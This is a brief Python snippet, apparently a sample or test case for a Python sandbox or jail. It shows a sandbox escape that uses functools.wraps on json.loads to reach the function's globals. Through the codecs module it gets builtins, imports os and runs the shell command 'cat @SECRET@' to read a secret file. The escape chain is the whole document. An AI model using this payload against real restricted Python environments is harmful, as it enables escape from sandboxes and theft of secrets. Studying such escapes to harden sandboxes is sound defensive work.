# functools.wraps leaves the wrapped function, whose globals lead on.
# effect: run
import functools
import json
@functools.wraps(json.loads)
def mine():
    pass
mine.__wrapped__.__globals__["codecs"].builtins.__import__("os").system("cat @SECRET@")
